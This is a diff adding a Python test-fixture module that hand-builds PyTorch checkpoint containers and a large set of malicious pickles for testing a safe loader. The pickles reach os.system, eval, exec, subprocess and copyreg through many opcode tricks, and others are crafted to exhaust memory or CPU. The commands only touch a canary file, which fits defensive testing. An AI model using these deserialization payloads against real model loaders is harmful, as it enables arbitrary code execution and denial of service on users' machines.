@@ -1,0 +1,201 @@
+"""Foreign checkpoint files written by hand: both containers, single tensors, and pickles that mean harm."""
+
+import io
+import os
+import pickle
+import struct
+import subprocess
+import zipfile
+from collections.abc import Callable
+from typing import Any
+
+import torch
+
+from hat.files.pickle_machine import MAX_OPCODES
+
+MAGIC = pickle.dumps(0x1950A86A20F9469CFC6C, 2)
+
+
+def sequence(body: bytes, keys: tuple[str, ...] = (), tail: bytes = b"", little: bool = True) -> bytes:
+    """Return `body` in the container of PyTorch before 1.6."""
+    head = MAGIC + pickle.dumps(1001, 2) + pickle.dumps({"little_endian": little}, 2)
+    return head + body + pickle.dumps(list(keys), 2) + tail
+
+
+def archive(body: bytes, method: int = zipfile.ZIP_STORED, **entries: bytes) -> bytes:
+    """Return `body` in the zip container."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", method) as file:
+        file.writestr("x/data.pkl", body)
+        for name, content in entries.items():
+            file.writestr(f"x/{name.replace('__', '/')}", content)
+    return buffer.getvalue()
+
+
+CONTAINERS: dict[str, Callable[[bytes], bytes]] = {"sequence": sequence, "zip": archive}
+
+
+def torch_bytes(value: Any, zipped: bool, protocol: int = 2) -> bytes:
+    buffer = io.BytesIO()
+    torch.save(value, buffer, pickle_protocol=protocol, _use_new_zipfile_serialization=zipped)
+    return buffer.getvalue()
+
+
+class Meter:
+    """A class of another program, as the reader sees it."""
+
+    def __init__(self) -> None:
+        self.total = 1.5
+
+    def __setstate__(self, state: dict) -> None:
+        raise AssertionError("the reader made a real object")
+
+
+class Runs:
+    """Pickles to a call."""
+
+    def __init__(self, function: Callable, *args: Any) -> None:
+        self.call = function, args
+
+    def __reduce__(self) -> tuple:
+        return self.call
+
+
+def number(n: int) -> bytes:
+    return pickle.dumps(n, 2)[2:-1]
+
+
+def tensor_pickle(
+    size: tuple, stride: tuple, offset: int = 0, numel: int = 4, kind: str = "FloatStorage"
+) -> bytes:
+    """Return the pickle of one tensor on storage 0."""
+    pid = b"(X\x07\x00\x00\x00storagectorch\n" + kind.encode() + b"\nX\x01\x00\x00\x000X\x03\x00\x00\x00cpu"
+    shape = b"".join(b"(" + b"".join(map(number, numbers)) + b"t" for numbers in (size, stride))
+    call = b"ctorch._utils\n_rebuild_tensor_v2\n((" + pid[1:] + number(numel) + b"tQ" + number(offset) + shape
+    return b"\x80\x02" + call + b"\x89NtR."
+
+
+RAW = struct.pack("<4f", 1, 2, 3, 4)
+
+
+def both(body: bytes, raw: bytes = RAW, numel: int = 4) -> list[bytes]:
+    return [archive(body, data__0=raw), sequence(body, ("0",), struct.pack("<q", numel) + raw)]
+
+
+def text(content: str) -> bytes:
+    return b"X" + struct.pack("<I", len(content)) + content.encode()
+
+
+def gadgets(canary: str) -> dict[str, bytes]:
+    """Return pickles that would act, or cost without bound, in a trusting reader."""
+    touch = f"touch {canary}"
+    line = touch.encode()
+    named = b"cposix\nsystem\n"
+    found = {
+        f"{name} {protocol}": pickle.dumps(Runs(function, *args), protocol)
+        for protocol in range(6)
+        for name, function, args in (
+            ("system", os.system, (touch,)),
+            ("eval", eval, (f"open({canary!r}, 'w')",)),
+            ("exec", exec, (f"open({canary!r}, 'w')",)),
+            ("open", open, (canary, "w")),
+            ("import", __import__, ("antigravity",)),
+            ("popen", subprocess.Popen, (["touch", canary],)),
+        )
+    }
+    return found | {
+        "global": named + b"(" + text(touch) + b"tR.",
+        "stack global": b"\x80\x04" + text("os") + text("system") + b"\x93(" + text(touch) + b"tR.",
+        "stack global of numbers": b"\x80\x04K\x01K\x02\x93.",
+        "inst": b"(S'" + line + b"'\niposix\nsystem\n.",
+        "obj": b"(" + named + text(touch) + b"o.",
+        "obj of nothing": b"(o.",
+        "newobj": named + b"(" + text(touch) + b"t\x81.",
+        "newobj_ex": named + b"(" + text(touch) + b"t}\x92.",
+        "ext": b"\x82\x01.",
+        "ext4": b"\x84\x01\x00\x00\x00.",
+        "partial": b"cfunctools\npartial\n(" + named + text(touch) + b"tR)R.",
+        "attrgetter": b"coperator\nattrgetter\n("
+        + text("system")
+        + b"tR(cos\n__name__\ntR("
+        + text(touch)
+        + b"tR.",
+        "methodcaller": b"coperator\nmethodcaller\n("
+        + text("system")
+        + text(touch)
+        + b"tR(cbuiltins\nos\ntR.",
+        "hub": b"ctorch.hub\nload\n(" + text("evil/repo") + text("model") + b"tR.",
+        "torch load": b"ctorch\nload\n(" + text(canary) + b"tR.",
+        "reconstructor": b"ccopyreg\n_reconstructor\n(cos\n_wrap_close\ncbuiltins\nobject\nNtR("
+        + b"d"
+        + b"b.",
+        "add_extension": b"ccopyreg\nadd_extension\n(" + text("os") + text("system") + b"K\x01tR\x82\x01.",
+        "dotted": b"\x80\x04"
+        + text("builtins")
+        + text("__import__.__call__")
+        + b"\x93("
+        + text("os")
+        + b"tR.",
+        "build": named
+        + b"("
+        + text("__setstate__")
+        + named
+        + text("__class__")
+        + named
+        + b"db"
+        + text(touch)
+        + b"\x85R.",
+        "build slots": b"cx\nY\n)\x81N}" + text("__class__") + named + b"s\x86b.",
+        "build dict": b"}}" + text("__class__") + named + b"sb.",
+        "namespace of a list": b"cargparse\nNamespace\n)\x81]b.",
+        "persistent": b"(" + named + text(touch) + b"tQ.",
+        "persistent text": b"P" + line + b"\n.",
+        "rebuild with options": b"ctorch._utils\n_rebuild_tensor_v2\n)}" + text("x") + b"Ns\x92.",
+        "rebuild of names": b"ctorch._utils\n_rebuild_tensor_v2\n(" + named + b"K\x00))tR.",
+        "rebuild of hooks": b"ctorch._utils\n_rebuild_parameter\n(" + named + b"\x88" + named + b")RtR.",
+        "device hook": b"ctorch._utils\n_rebuild_wrapper_subclass\n(" + named + b"tR.",
+        "call of text": text("os.system") + b"(" + text(touch) + b"tR.",
+        "recursive list": b"]q\x00h\x00a.",
+        "recursive dict": b"}q\x00K\x01h\x00s.",
+        "recursive tuple": b"]q\x00(h\x00tq\x01a0h\x01.",
+        "deep list": b"]" * 60_000 + b"a" * 59_999 + b".",
+        "doubled tuple": b")" + b"2\x86" * 60_000 + b".",
+        "doubled key": b"})" + b"2\x86" * 60 + b"Ns.",
+        "memo far away": b"Nr\xff\xff\xff\xff0j\xff\xff\xff\xff.",
+        "memo missing": b"j\xff\xff\xff\xff.",
+        "long": b"\x8b\xff\xff\xff\x7f\x01.",
+        "long that is there": b"\x8b" + struct.pack("<i", 1 << 20) + b"\x7f" * (1 << 20) + b".",
+        "decimal": b"I" + b"9" * 100_000 + b"\n.",
+        "bytes8": b"\x8e" + struct.pack("<Q", 1 << 62) + b"\x01.",
+        "unicode8": b"\x8d" + struct.pack("<Q", 1 << 40) + b"\x01.",
+        "bytearray8": b"\x96" + struct.pack("<Q", 1 << 63) + b"\x01.",
+        "buffer": b"\x97.",
+        "set of lists": b"\x8f(]\x90.",
+        "long name": b"c" + b"a" * 10_000 + b"\nb\n.",
+        "name over and over": text("a" * 500_000) + b"q\x01" + b"h\x01h\x01\x93" * 9_000 + b".",
+        "bytes over and over": b"c_codecs\nencode\nq\x02"
+        + (b"(" + text("a" * 500_000) + text("latin1") + b"tq\x03")
+        + b"h\x02h\x03R" * 50_000
+        + b".",
+        "dictionary over and over": b"ccollections\nOrderedDict\nq\x02(]("
+        + b"K\x01K\x02\x86" * 20_000
+        + b"etq\x03"
+        + b"h\x02h\x03R" * 50_000
+        + b".",
+        "pairs that are long": b"ccollections\nOrderedDict\n(]("
+        + b"K\x01" * 5_000
+        + b"tq\x030("
+        + b"h\x03" * 5_000
+        + b"etR.",
+        "tensors": tensor_pickle((0,), (1,))[:-2]
+        + b"q\x01("
+        + tensor_pickle((0,), (1,))[2:-1] * 1_000
+        + b"t.",
+        "opcodes": b"N0" * MAX_OPCODES + b"N.",
+        "nothing": b".",
+        "no end": b"N",
+        "mark": b"(.",
+        "pop": b"0.",
+        "pop below the mark": b"N(0\x85.",
+        "utf-8": b"X\x01\x00\x00\x00\xff.",
+    }
